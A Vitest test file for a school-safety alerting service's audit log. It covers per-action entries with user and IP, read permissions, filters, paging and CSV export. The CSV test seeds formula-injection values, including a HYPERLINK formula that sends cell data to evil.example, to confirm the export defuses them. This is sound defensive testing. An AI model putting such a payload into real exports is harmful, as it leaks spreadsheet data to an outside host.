import { DocumentBuilder, SwaggerModule } from '@nestjs/swagger';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  SCHOOL_A,
  SCHOOL_B,
  alertTrigger,
  hazardTrigger,
  openedAlert,
  startAlertingHttp,
  type AlertingHttp,
} from '../testing/alerting-http.fixture';
import type { Hazard } from '../domain/hazard';
import type { Drill } from '../domain/drill';
import type { Inspection } from '../domain/inspection';
import type { AuditAction, AuditEntry } from '../domain/audit';
import { AuditLog } from './audit-log';
import { AUDIT_SINK, type AuditSink } from './audit-sink';

/**
 * The audit log over HTTP, against the real alert parts: every audited action leaves exactly one
 * entry with its user and client address; who may read which entries; filters, paging, CSV.
 */

let t: AlertingHttp;
beforeAll(async () => {
  t = await startAlertingHttp();
});
afterAll(() => t.close());

interface Page {
  items: AuditEntry[];
  nextCursor: string | null;
}

/** A request as `user`, with extra headers (the fixture's `as` has none). */
async function request(
  user: string,
  path: string,
  init: { method?: string; body?: unknown; headers?: Record<string, string> } = {},
): Promise<{ status: number; body: unknown; headers: Headers; text: string; bytes: Buffer }> {
  const headers: Record<string, string> = { authorization: `Bearer ${await t.token(user)}`, ...init.headers };
  if (init.body !== undefined) headers['content-type'] = 'application/json';
  const res = await fetch(`${t.url}${path}`, {
    method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
    headers,
    ...(init.body === undefined ? {} : { body: JSON.stringify(init.body) }),
  });
  const bytes = Buffer.from(await res.arrayBuffer());
  // decoded the way Excel reads it: a UTF-8 BOM is kept in the text (fetch's text() would drop it)
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  let body: unknown = text;
  try {
    body = JSON.parse(text);
  } catch {
    // CSV
  }
  return { status: res.status, body, headers: res.headers, text, bytes };
}

const audit = async (user: string, query: string): Promise<Page> => {
  const res = await request(user, `/api/audit${query}`);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body as Page;
};

async function registered(over: Parameters<typeof hazardTrigger>[0] = {}): Promise<Hazard> {
  const trigger = hazardTrigger(over);
  await t.alerts.handleTriggers([trigger]);
  const list = (await t.as('root', '/api/hazards')).body as { items: Hazard[] };
  const hazard = list.items.find((h) => h.key === trigger.key);
  if (hazard === undefined) throw new Error('hazard not registered');
  return hazard;
}

/** One audited step: what it does, and the one entry it must leave. */
interface Step {
  name: string;
  run(): Promise<{ status: number; target: string }>;
  expected: { action: AuditAction; actor: string; outcome: 'ok' | 'denied'; org: string };
  status: number;
}

describe('every audited action leaves exactly one entry with its user and client address', () => {
  it('acknowledge, resolve, hazard steps, drills, inspections, risk points and refused requests', async () => {
    // signing in is audited too (next test): every user signs in before the window starts
    for (const user of [
      'guard1',
      'head1',
      'yanta',
      'xian',
      'shaanxi',
      'root',
      'guard2',
      'head2',
      'weiyang',
      'baoji',
    ])
      await t.token(user);
    const since = Date.now() + 1;
    await new Promise<void>((resolve) => {
      const wait = () => (Date.now() >= since ? resolve() : setImmediate(wait));
      wait();
    });
    const ackAlert = await openedAlert(t, alertTrigger());
    const resolveAlert = await openedAlert(t, alertTrigger());
    const rejected = await registered();
    const accepted = await registered();
    let drill: Drill | undefined;
    let inspection: Inspection | undefined;
    const A = SCHOOL_A.school;
    const move = (user: string, h: Hazard, to: string) => async () => {
      const res = await request(user, `/api/hazards/${h.id}/transition`, { body: { to } });
      return { status: res.status, target: `hazard:${h.id}` };
    };
    const ok = (action: AuditAction, actor: string, org = A) => ({
      action,
      actor,
      outcome: 'ok' as const,
      org,
    });
    const denied = (actor: string, org: string) => ({
      action: 'access.denied' as const,
      actor,
      outcome: 'denied' as const,
      org,
    });

    const extra: { action: AuditAction; actor: string; target: string }[] = [];
    const steps: Step[] = [
      {
        name: 'acknowledge (a forged X-Forwarded-For is not the client: no TRUST_PROXY)',
        run: async () => {
          const res = await request('guard1', `/api/alerts/${ackAlert.id}/ack`, {
            body: {},
            headers: { 'x-forwarded-for': '203.0.113.9' },
          });
          return { status: res.status, target: `alert:${ackAlert.id}` };
        },
        status: 200,
        expected: ok('alert.acknowledge', 'guard1'),
      },
      {
        name: 'resolve',
        run: async () => {
          const res = await request('yanta', `/api/alerts/${resolveAlert.id}/resolve`, {
            body: { disposition: 'false_alarm' },
          });
          return { status: res.status, target: `alert:${resolveAlert.id}` };
        },
        status: 200,
        expected: ok('alert.resolve', 'yanta'),
      },
      {
        name: 'hazard: start rectification',
        run: move('guard1', rejected, 'rectifying'),
        status: 200,
        expected: ok('hazard.start_rectification', 'guard1'),
      },
      {
        name: 'hazard: submit for acceptance',
        run: move('guard1', rejected, 'awaiting_acceptance'),
        status: 200,
        expected: ok('hazard.submit_for_acceptance', 'guard1'),
      },
      {
        name: 'hazard: reject at acceptance',
        run: move('yanta', rejected, 'rectifying'),
        status: 200,
        expected: ok('hazard.reject', 'yanta'),
      },
      {
        name: 'hazard: rectification by the school admin',
        run: move('head1', accepted, 'rectifying'),
        status: 200,
        expected: ok('hazard.start_rectification', 'head1'),
      },
      {
        name: 'hazard: done by the school admin',
        run: move('head1', accepted, 'awaiting_acceptance'),
        status: 200,
        expected: ok('hazard.submit_for_acceptance', 'head1'),
      },
      {
        name: 'hazard: accept',
        run: move('xian', accepted, 'closed'),
        status: 200,
        expected: ok('hazard.accept', 'xian'),
      },
      {
        name: 'drill: start',
        run: async () => {
          const res = await request('head1', '/api/drills', {
            body: { device: 'off-0001', from: Date.now(), to: Date.now() + 3_600_000 },
          });
          drill = res.body as Drill;
          return { status: res.status, target: `drill:${drill.id}` };
        },
        status: 201,
        expected: ok('drill.start', 'head1'),
      },
      {
        name: 'drill: end',
        run: async () => {
          const res = await request('head1', `/api/drills/${drill?.id ?? ''}/end`, { method: 'POST' });
          return { status: res.status, target: `drill:${drill?.id ?? ''}` };
        },
        status: 200,
        expected: ok('drill.end', 'head1'),
      },
      {
        name: 'inspection: create',
        run: async () => {
          const res = await request('yanta', '/api/inspections', { body: { school: A } });
          inspection = res.body as Inspection;
          return { status: res.status, target: `inspection:${inspection.id}` };
        },
        status: 201,
        expected: ok('inspection.create', 'yanta'),
      },
      {
        name: 'inspection: an item’s verdict',
        run: async () => {
          const res = await request(
            'yanta',
            `/api/inspections/${inspection?.id ?? ''}/items/guards_on_duty`,
            {
              method: 'PATCH',
              body: { result: 'pass' },
            },
          );
          return { status: res.status, target: `inspection:${inspection?.id ?? ''}` };
        },
        status: 200,
        expected: ok('inspection.update', 'yanta'),
      },
      {
        name: 'inspection: a finding',
        run: async () => {
          const res = await request('yanta', `/api/inspections/${inspection?.id ?? ''}/findings`, {
            body: { title: '灭火器过期', grade: 'general', deadline: Date.now() + 7 * 86_400_000 },
          });
          return { status: res.status, target: `inspection:${inspection?.id ?? ''}` };
        },
        status: 201,
        expected: ok('inspection.update', 'yanta'),
      },
      {
        name: 'inspection: complete',
        run: async () => {
          const res = await request('yanta', `/api/inspections/${inspection?.id ?? ''}/complete`, {
            body: {},
          });
          return { status: res.status, target: `inspection:${inspection?.id ?? ''}` };
        },
        status: 200,
        expected: ok('inspection.complete', 'yanta'),
      },
      {
        name: 'risk point: create',
        run: async () => {
          const res = await request('head1', '/api/risk-points/audit-kitchen', {
            method: 'PUT',
            body: { school: A, name: '食堂燃气间', grade: 'yellow' },
          });
          return { status: res.status, target: 'risk_point:audit-kitchen' };
        },
        status: 200,
        expected: ok('risk_point.create', 'head1'),
      },
      {
        name: 'risk point: update',
        run: async () => {
          const res = await request('root', '/api/risk-points/audit-kitchen', {
            method: 'PUT',
            body: { name: '食堂燃气间', grade: 'orange', lecL: 3, lecE: 6, lecC: 7 },
          });
          return { status: res.status, target: 'risk_point:audit-kitchen' };
        },
        status: 200,
        expected: ok('risk_point.update', 'root'),
      },
      {
        name: 'denied: 403 from the permission guard',
        run: async () => {
          const res = await request('guard1', '/api/risk-points/audit-kitchen', {
            method: 'PUT',
            body: { name: 'x', grade: 'red' },
          });
          return { status: res.status, target: 'PUT /api/risk-points/audit-kitchen' };
        },
        status: 403,
        expected: denied('guard1', A),
      },
      {
        name: 'denied: 404 outside the scope',
        run: async () => {
          const res = await request('guard2', `/api/alerts/${ackAlert.id}`);
          return { status: res.status, target: `GET /api/alerts/${ackAlert.id}` };
        },
        status: 404,
        expected: denied('guard2', SCHOOL_B.school),
      },
      {
        name: 'denied: 403 editing another officer’s inspection',
        run: async () => {
          const other = (await request('yanta', '/api/inspections', { body: { school: A } }))
            .body as Inspection;
          // starting it is one more entry of its own: read it back below
          extra.push({ action: 'inspection.create', actor: 'yanta', target: `inspection:${other.id}` });
          const res = await request('xian', `/api/inspections/${other.id}/items/guards_on_duty?x=1`, {
            method: 'PATCH',
            body: { result: 'fail' },
          });
          return { status: res.status, target: `PATCH /api/inspections/${other.id}/items/guards_on_duty` };
        },
        status: 403,
        expected: denied('xian', SCHOOL_A.city),
      },
      {
        name: 'denied: 403 on the audit log for a school role',
        run: async () => {
          const res = await request('head1', '/api/audit');
          return { status: res.status, target: 'GET /api/audit' };
        },
        status: 403,
        expected: denied('head1', A),
      },
    ];

    const expected: { action: string; actor: string; target: string; outcome: string; org: string }[] = [];
    for (const step of steps) {
      const { status, target } = await step.run();
      expect(status, step.name).toBe(step.status);
      expected.push({ ...step.expected, target });
    }

    const { items } = await audit('root', `?from=${since}&limit=1000`);
    for (const e of items) expect(e.ip, `${e.action} ${e.target ?? ''}`).toBe('127.0.0.1');
    const seen = items.map((e) => ({
      action: e.action,
      actor: e.actor,
      target: e.target,
      outcome: e.outcome,
      org: e.org,
    }));
    const wanted = [...expected, ...extra.map((x) => ({ ...x, outcome: 'ok', org: A }))];
    const key = (e: { action: string; actor: string; target: string | null }) =>
      `${e.action} ${e.actor} ${e.target ?? ''}`;
    // exactly one entry per step, nothing else in the window
    expect(seen.map(key).sort()).toEqual(wanted.map(key).sort());
    for (const w of wanted)
      expect(
        seen.find((s) => key(s) === key(w)),
        key(w),
      ).toMatchObject(w);
    // newest first
    const ats = items.map((e) => Date.parse(e.at));
    expect(ats).toEqual([...ats].sort((a, b) => b - a));
    // a few details
    const byAction = (a: string) => items.filter((e) => e.action === a);
    expect(byAction('alert.resolve')[0]?.detail).toMatchObject({ disposition: 'false_alarm', type: 'smoke' });
    expect(byAction('hazard.reject')[0]?.detail).toEqual({ from: 'awaiting_acceptance', to: 'rectifying' });
    expect(byAction('risk_point.update')[0]?.detail).toEqual({
      changes: { grade: ['yellow', 'orange'], lecL: [null, 3], lecE: [null, 6], lecC: [null, 7] },
    });
    expect(byAction('access.denied').find((e) => e.actor === 'xian')?.detail).toEqual({
      status: 403,
      error: 'only the inspector yanta or an admin may change this inspection',
    });
  });
});

describe('logins and account changes are audited', () => {
  // its own service: these steps revoke tokens the other tests' service has cached
  let own: AlertingHttp;
  beforeAll(async () => {
    own = await startAlertingHttp();
  });
  afterAll(() => own.close());
  const post = async (path: string, body: unknown, token?: string) =>
    fetch(`${own.url}${path}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(token ? { authorization: `Bearer ${token}` } : {}) },
      body: JSON.stringify(body),
    });

  it('login, failed login, lockout, logout, password change and admin reset: one entry each, with user and IP', async () => {
    const since = Date.now();
    expect((await post('/api/auth/login', { username: 'weiyang', password: 'weiyang-pass' })).status).toBe(
      200,
    );
    // five failures lock the account (LOGIN_MAX_FAILURES): five login_failed, one lockout
    for (let i = 0; i < 5; i++)
      expect((await post('/api/auth/login', { username: 'baoji', password: 'wrong-pass' })).status).toBe(401);
    // an unknown name is never stored: it may be a password typed into the wrong field
    expect((await post('/api/auth/login', { username: 'Secret-Typed-Here', password: 'x' })).status).toBe(
      401,
    );
    const login = async (username: string, password: string) => {
      const res = await post('/api/auth/login', { username, password });
      expect(res.status).toBe(200);
      return ((await res.json()) as { accessToken: string }).accessToken;
    };
    const guard2 = await login('guard2', 'guard-pass');
    expect((await post('/api/auth/logout', {}, guard2)).status).toBe(204);
    const head2 = await login('head2', 'head-pass');
    expect(
      (
        await post(
          '/api/auth/password',
          { currentPassword: 'head-pass', newPassword: 'a-new-long-password-7' },
          head2,
        )
      ).status,
    ).toBe(204);
    const root = await login('root', 'root-pass');
    expect(
      (await post('/api/users/weiyang/password', { newPassword: 'reset-by-root-2026!' }, root)).status,
    ).toBe(204);

    const read = await fetch(`${own.url}/api/audit?from=${since}&action=auth&limit=1000`, {
      headers: { authorization: `Bearer ${root}` },
    });
    expect(read.status).toBe(200);
    const { items } = (await read.json()) as Page;
    const seen = items.map((e) => `${e.action} ${e.actor} ${e.target ?? ''} ${e.outcome} ${e.ip}`).sort();
    const ip = '127.0.0.1';
    expect(seen).toEqual(
      [
        `auth.login weiyang user:weiyang ok ${ip}`,
        ...Array.from({ length: 5 }, () => `auth.login_failed baoji user:baoji failed ${ip}`),
        `auth.lockout baoji user:baoji failed ${ip}`,
        `auth.login_failed (unknown)  failed ${ip}`,
        `auth.login guard2 user:guard2 ok ${ip}`,
        `auth.logout guard2 user:guard2 ok ${ip}`,
        `auth.login head2 user:head2 ok ${ip}`,
        `auth.password_change head2 user:head2 ok ${ip}`,
        `auth.login root user:root ok ${ip}`,
        `auth.password_reset root user:weiyang ok ${ip}`,
      ].sort(),
    );
    expect(JSON.stringify(items)).not.toContain('Secret-Typed-Here');
    expect(items.find((e) => e.action === 'auth.password_reset')?.org).toBe('610112');
  });
});

describe('GET /api/audit: who reads what', () => {
  let since = 0;
  beforeAll(async () => {
    since = Date.now();
    // one entry at school A, one at school B (another county of the same city)
    expect(
      (
        await t.as('head1', '/api/risk-points/scope-a', {
          method: 'PUT',
          body: { school: SCHOOL_A.school, name: 'A', grade: 'blue' },
        })
      ).status,
    ).toBe(200);
    expect(
      (
        await t.as('head2', '/api/risk-points/scope-b', {
          method: 'PUT',
          body: { school: SCHOOL_B.school, name: 'B', grade: 'blue' },
        })
      ).status,
    ).toBe(200);
  });

  const targets = async (user: string) =>
    (await audit(user, `?from=${since}&action=risk_point`)).items.map((e) => e.target).sort();

  it('answers 403 to school roles, for JSON and CSV alike, and says who may read it', async () => {
    for (const user of ['guard1', 'head1', 'guard2', 'head2']) {
      for (const path of ['/api/audit', '/api/audit.csv', '/api/audit?format=csv']) {
        const res = await request(user, path);
        expect(res.status, `${user} ${path}`).toBe(403);
        expect(res.body).toEqual({
          error: `role ${user.startsWith('guard') ? 'school_security' : 'school_admin'} may not read the audit log: admins and county, city and province officers may`,
        });
      }
    }
  });

  it('shows an official the entries within their org only; an admin everything', async () => {
    expect(await targets('yanta')).toEqual(['risk_point:scope-a']);
    expect(await targets('weiyang')).toEqual(['risk_point:scope-b']);
    expect(await targets('xian')).toEqual(['risk_point:scope-a', 'risk_point:scope-b']);
    expect(await targets('shaanxi')).toEqual(['risk_point:scope-a', 'risk_point:scope-b']);
    expect(await targets('baoji')).toEqual([]);
    expect(await targets('root')).toEqual(['risk_point:scope-a', 'risk_point:scope-b']);
    // the start-up configuration entry has no org unit: admins only
    const config = async (user: string) => (await audit(user, '?action=config')).items.map((e) => e.action);
    expect(await config('root')).toContain('config.load');
    expect(await config('shaanxi')).toEqual([]);
  });

  it('records a denied request under the actor’s own unit, so the probed unit learns nothing', async () => {
    const from = Date.now();
    expect((await t.as('weiyang', '/api/risk-points?school=2161010001')).status).toBe(404);
    const seen = async (user: string) =>
      (await audit(user, `?from=${from}&action=access.denied&actor=weiyang`)).items.map((e) => e.target);
    expect(await seen('weiyang')).toEqual(['GET /api/risk-points']);
    expect(await seen('yanta')).toEqual([]);
  });
});

describe('GET /api/audit: filters, paging, CSV', () => {
  const sink = (): AuditSink => t.handle.app.get<AuditSink>(AUDIT_SINK);
  const base = Date.parse('2026-03-01T00:00:00.000Z');

  beforeAll(async () => {
    // entries at known instants, recorded through the sink as the auth code will
    const at = (m: number) => base + m * 60_000;
    await sink().record({ action: 'auth.login', actor: 'yanta', ip: '10.1.1.1', org: '610113', at: at(0) });
    await sink().record({
      action: 'auth.login_failed',
      actor: '=HYPERLINK("http://evil.example/?"&A1,"点我")',
      ip: '10.1.1.2',
      outcome: 'failed',
      org: '610113',
      at: at(1),
    });
    await sink().record({
      action: 'auth.lockout',
      actor: '+cmd',
      ip: '10.1.1.2',
      outcome: 'failed',
      org: '610113',
      at: at(2),
    });
    await sink().record({ action: 'auth.login', actor: '@sum', org: '610113', at: at(3) });
    await sink().record({
      action: 'alert.acknowledge',
      actor: '-2+3',
      target: 'alert:x',
      org: SCHOOL_A.school,
      at: at(4),
    });
    await sink().record({
      action: 'alert.resolve',
      actor: '\tyanta',
      target: 'alert:x',
      org: SCHOOL_A.school,
      at: at(5),
    });
  });
  const window = `from=2026-03-01T00:00:00Z&to=${base + 3_600_000}`;

  it('filters by time (ISO 8601 or epoch ms), actor, action and action family', async () => {
    const actions = async (q: string) => (await audit('yanta', `?${q}`)).items.map((e) => e.action);
    expect(await actions(window)).toEqual([
      'alert.resolve',
      'alert.acknowledge',
      'auth.login',
      'auth.lockout',
      'auth.login_failed',
      'auth.login',
    ]);
    expect(await actions(`${window}&actor=yanta`)).toEqual(['auth.login']);
    expect(await actions(`${window}&action=auth.login`)).toEqual(['auth.login', 'auth.login']);
    expect(await actions(`${window}&action=auth`)).toEqual([
      'auth.login',
      'auth.lockout',
      'auth.login_failed',
      'auth.login',
    ]);
    expect(await actions(`${window}&outcome=failed`)).toEqual(['auth.lockout', 'auth.login_failed']);
    expect(await actions(`from=${base + 2 * 60_000}&to=2026-03-01T00:04:00.000Z`)).toEqual([
      'auth.login',
      'auth.lockout',
    ]);
    for (const bad of [
      'action=alert.delete',
      'from=yesterday',
      'to=2026-03-01T00:00:00',
      'limit=0',
      'limit=1001',
      'cursor=abc',
      'colour=red',
      `from=${base}&to=${base}`,
    ]) {
      const res = await request('yanta', `/api/audit?${bad}`);
      expect(res.status, bad).toBe(400);
    }
  });

  it('pages newest first with limit and nextCursor', async () => {
    const first = await audit('yanta', `?${window}&limit=4`);
    expect(first.items.map((e) => e.action)).toEqual([
      'alert.resolve',
      'alert.acknowledge',
      'auth.login',
      'auth.lockout',
    ]);
    expect(first.nextCursor).toEqual(expect.any(String));
    const second = await audit('yanta', `?${window}&limit=4&cursor=${first.nextCursor ?? ''}`);
    expect(second.items.map((e) => e.action)).toEqual(['auth.login_failed', 'auth.login']);
    expect(second.nextCursor).toBeNull();
  });

  it('exports CSV with the formula guard: a cell starting with = + - @ or a tab gets a leading quote', async () => {
    for (const path of [`/api/audit.csv?${window}`, `/api/audit?${window}&format=csv`]) {
      const res = await request('yanta', path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      expect(res.headers.get('content-disposition')).toMatch(
        /^attachment; filename="audit-\d{4}-\d\d-\d\d\.csv"$/,
      );
      expect(res.text.startsWith('\uFEFF时间,操作人,操作,对象,IP,结果,单位,详情\r\n')).toBe(true);
      const lines = res.text.slice(1).split('\r\n');
      expect(lines).toHaveLength(8); // header, 6 entries, the final CRLF
      const cells = lines.slice(1, 7).map((l) => l.split(',')[1]);
      expect(cells).toEqual([
        `'\tyanta`,
        `'-2+3`,
        `'@sum`,
        `'+cmd`,
        `"'=HYPERLINK(""http://evil.example/?""&A1`, // quoted: the cell holds a comma
        'yanta',
      ]);
      expect(lines[5]).toBe(
        `2026-03-01T00:01:00.000Z,"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")",auth.login_failed,,10.1.1.2,failed,610113,`,
      );
    }
    const limited = await request('yanta', `/api/audit.csv?${window}&limit=2`);
    expect(limited.text.slice(1).split('\r\n')).toHaveLength(4);
    const rest = limited.headers.get('x-next-cursor');
    expect(rest).toEqual(expect.any(String));
    const next = await request('yanta', `/api/audit.csv?${window}&cursor=${rest ?? ''}`);
    expect(next.text).toContain('auth.login_failed');
    expect(next.text).not.toContain('alert.resolve');
  });

  it('documents the endpoints in OpenAPI', () => {
    // the fixture serves no /api/docs: build the document from the same app
    const doc = SwaggerModule.createDocument(t.handle.app, new DocumentBuilder().build());
    expect(Object.keys(doc.paths['/api/audit']?.get?.responses ?? {}).sort()).toEqual([
      '200',
      '400',
      '401',
      '403',
    ]);
    expect(doc.paths['/api/audit.csv']?.get?.parameters?.map((p) => ('name' in p ? p.name : ''))).toEqual(
      expect.arrayContaining(['from', 'to', 'actor', 'action', 'limit', 'cursor']),
    );
    expect(doc.paths['/api/drills/{id}/end']?.post?.responses).toHaveProperty('409');
    expect(doc.paths['/api/risk-points/{id}/history']?.get).toBeDefined();
  });
});

describe('a failed audit write does not fail the action', () => {
  it('acknowledges with the audit table gone, logs and counts the failure', async () => {
    const log = t.handle.app.get(AuditLog);
    const before = log.stats();
    const alert = await openedAlert(t, alertTrigger());
    await t.db.exec('ALTER TABLE alerting.audit_log RENAME TO audit_log_away');
    try {
      const res = await request('guard1', `/api/alerts/${alert.id}/ack`, { body: {} });
      expect(res.status).toBe(200);
      expect(res.body).toMatchObject({ status: 'acknowledged', acknowledgedBy: 'guard1' });
      // a refused request is answered too
      expect((await request('guard2', `/api/alerts/${alert.id}`)).status).toBe(404);
    } finally {
      await t.db.exec('ALTER TABLE alerting.audit_log_away RENAME TO audit_log');
    }
    expect(log.stats()).toEqual({ written: before.written, failed: before.failed + 2 });
  });
});
